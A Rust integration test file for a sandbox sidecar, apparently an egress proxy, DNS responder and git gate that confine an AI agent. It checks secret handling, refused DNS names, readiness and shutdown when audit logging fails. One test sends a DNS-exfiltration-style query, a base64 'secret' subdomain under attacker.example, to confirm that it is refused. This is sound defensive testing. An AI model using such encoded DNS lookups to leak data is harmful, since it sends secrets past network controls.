//! `claude-bottle sidecar` as a process on loopback: configuration and
//! secrets on stdin, `ready` only when proxy, DNS and gate listen, DNS that
//! answers only its names, no secret in its command line or environment,
//! clean exit on SIGTERM.

use std::io::{BufRead, BufReader, Write};
use std::net::UdpSocket;
use std::process::{Command, Stdio};
use std::time::Duration;

use super::util::OAUTH;

fn ask(server: &str, name: &str) -> Vec<u8> {
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    sock.send_to(&bottle_egress::dns::query(0x4242, name, 1), server)
        .unwrap();
    let mut buf = [0u8; 512];
    let n = sock.recv(&mut buf).unwrap();
    buf[..n].to_vec()
}

/// `claude-bottle sidecar` with a bare environment and every stream piped.
fn spawn_sidecar() -> std::process::Child {
    Command::new(assert_cmd::cargo::cargo_bin("claude-bottle"))
        .arg("sidecar")
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// [`spawn_sidecar`] given `config` on stdin, which is then closed.
fn spawn_sidecar_with(config: &serde_json::Value) -> std::process::Child {
    let mut child = spawn_sidecar();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(config.to_string().as_bytes())
        .unwrap();
    child
}

#[test]
fn sidecar_starts_every_part_and_keeps_secrets_in_memory() {
    let state = tempfile::tempdir().unwrap();
    let config = serde_json::json!({
        "listen": "127.0.0.1:0",
        "allow": [],
        "dlp": "block",
        "log": "events",
        "tokens": [{"kind": "anthropic", "token_ref": "CLAUDE_BOTTLE_OAUTH_TOKEN"}],
        "dns": {"listen": "127.0.0.1:0", "names": {"sidecar": "10.0.0.2"}},
        "gate": {"listen": "127.0.0.1:0", "state_dir": state.path(), "repos": {}},
        "secrets": {"tokens": {"CLAUDE_BOTTLE_OAUTH_TOKEN": OAUTH}},
    });
    let mut child = spawn_sidecar();
    let pid = child.id();
    {
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(config.to_string().as_bytes()).unwrap();
    }
    let mut out = BufReader::new(child.stdout.take().unwrap());
    // The bottle CA's certificate comes first (the CLI installs it in the
    // agent), then `ready`.
    let mut before = String::new();
    let mut ready = String::new();
    while out.read_line(&mut ready).unwrap() > 0 && !ready.starts_with("ready ") {
        before.push_str(&ready);
        ready.clear();
    }
    if !ready.starts_with("ready proxy 127.0.0.1:") {
        // The sidecar may still run: end it before reading why it failed.
        let _ = child.kill();
        let mut err = String::new();
        let _ = std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err);
        panic!("no ready line: {before}{ready:?}\nstderr: {err}");
    }
    assert!(
        before.starts_with("-----BEGIN CERTIFICATE-----")
            && before.trim_end().ends_with("-----END CERTIFICATE-----"),
        "the CA certificate before ready: {before}"
    );
    assert!(!before.contains("PRIVATE KEY"), "the CA's key was printed");
    let addr = |part: &str| {
        ready
            .trim()
            .trim_start_matches("ready ")
            .split(", ")
            .find_map(|p| {
                p.trim()
                    .strip_prefix(&format!("{part} "))
                    .map(str::to_string)
            })
            .unwrap_or_else(|| panic!("no {part} in {ready}"))
    };
    let (proxy, dns, gate) = (addr("proxy"), addr("dns"), addr("gate"));
    assert!(gate.starts_with("127.0.0.1:"));

    // The proxy's own health endpoint, through the proxy, by each of its
    // names (`sidecar` is one: the sidecar's own names are served, not
    // forwarded).
    for url in [
        "http://claude-bottle.local/health",
        "http://sidecar:3128/health",
    ] {
        let health = Command::new("curl")
            .args([
                "-s",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "-x",
                &format!("http://{proxy}"),
                url,
            ])
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&health.stdout), "200", "{url}");
    }

    // DNS: its own name answered, anything else NXDOMAIN (rcode 3).
    let own = ask(&dns, "sidecar");
    assert_eq!(own[3] & 0x0f, 0, "NOERROR");
    assert!(own.ends_with(&[10, 0, 0, 2]), "{own:?}");
    let other = ask(&dns, "c2VjcmV0.attacker.example");
    assert_eq!(other[3] & 0x0f, 3, "NXDOMAIN");
    assert_eq!(&other[6..8], &[0, 0], "no answer records");

    // The token came on stdin: not in argv, not in the environment.
    for file in ["cmdline", "environ"] {
        let bytes = std::fs::read(format!("/proc/{pid}/{file}")).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(OAUTH),
            "token in /proc/{pid}/{file}"
        );
    }

    Command::new("kill")
        .args(["-TERM", &pid.to_string()])
        .status()
        .unwrap();
    let status = child.wait().unwrap();
    assert!(status.success(), "{status:?}");
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    assert!(
        rest.contains("\"kind\":\"dns\""),
        "the refused query is an audit event: {rest}"
    );
    assert!(!rest.contains(OAUTH));
}

/// A gate that cannot be set up (here its state folder lies under a plain
/// file) ends the sidecar before `ready`: a bottle is never reported
/// healthy with a dead gate.
#[test]
fn sidecar_whose_gate_cannot_be_set_up_exits_before_ready() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("a-file");
    std::fs::write(&file, "not a folder").unwrap();
    let config = serde_json::json!({
        "listen": "127.0.0.1:0",
        "allow": [],
        "dlp": "block",
        "log": "events",
        "tokens": [],
        "gate": {"listen": "127.0.0.1:0", "state_dir": file.join("state"), "repos": {}},
        "secrets": {"tokens": {}},
    });
    let mut child = spawn_sidecar_with(&config);
    // Bounded: a sidecar that wrongly serves on would block the read.
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break Some(s);
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            break None;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let mut out = String::new();
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stdout.take().unwrap(), &mut out).unwrap();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert!(
        !out.contains("ready"),
        "ready printed: {out}\nstderr: {err}"
    );
    let status = status.unwrap_or_else(|| panic!("still running\nstdout: {out}\nstderr: {err}"));
    assert!(!status.success(), "{status:?}\nstderr: {err}");
    assert!(err.contains("git gate"), "{err}");
}

/// Every decision is an event: once the log cannot be written (here its
/// reader went away), the sidecar stops rather than go on unrecorded.
#[test]
fn sidecar_stops_when_its_log_cannot_be_written() {
    // Whichever part's line is lost: the DNS responder's (through the
    // proxy's log) and the git gate's (a sink of its own).
    for part in ["dns", "gate"] {
        let state = tempfile::tempdir().unwrap();
        let config = serde_json::json!({
            "listen": "127.0.0.1:0",
            "allow": [],
            "dlp": "block",
            "log": "events",
            "dns": {"listen": "127.0.0.1:0", "names": {"sidecar": "10.0.0.2"}},
            "gate": {"listen": "127.0.0.1:0", "state_dir": state.path(), "repos": {}},
            "secrets": {"tokens": {}},
        });
        let mut child = spawn_sidecar_with(&config);
        let mut out = BufReader::new(child.stdout.take().unwrap());
        let mut ready = String::new();
        while out.read_line(&mut ready).unwrap() > 0 && !ready.starts_with("ready ") {
            ready.clear();
        }
        let addr = ready
            .trim()
            .split(", ")
            .find_map(|p| p.strip_prefix(&format!("{part} ")))
            .unwrap_or_else(|| panic!("no {part} in {ready}"))
            .to_string();
        drop(out);
        // A refused query, a request for a repo the gate does not serve:
        // each is an event, whose line has nowhere to go.
        if part == "dns" {
            let _ = ask(&addr, "refused.example");
        } else {
            let _ = Command::new("curl")
                .args([
                    "-s",
                    "-m",
                    "5",
                    &format!("http://{addr}/nope.git/info/refs"),
                ])
                .output();
        }
        let mut status = None;
        for _ in 0..100 {
            if let Some(s) = child.try_wait().unwrap() {
                status = Some(s);
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        let Some(status) = status else {
            let _ = child.kill();
            panic!("{part}: the sidecar went on without a log");
        };
        let mut err = String::new();
        std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
        assert!(!status.success(), "{part}: {status:?}");
        assert!(
            err.contains("audit log could not be written"),
            "{part}: {err}"
        );
    }
}
